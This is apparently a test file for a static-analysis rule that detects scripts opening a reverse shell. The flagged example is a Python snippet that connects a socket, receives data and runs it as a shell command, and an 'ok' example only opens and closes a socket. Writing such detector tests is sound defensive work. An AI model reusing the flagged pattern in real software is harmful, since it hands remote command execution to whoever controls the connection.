# ruleid: opens-reverse-shell-by-script
s = socket.socket()
s.connect(address)
data = s.recv(1024)
subprocess.Popen(data, shell=True)
# ok: opens-reverse-shell-by-script
s = socket.socket()
s.close()
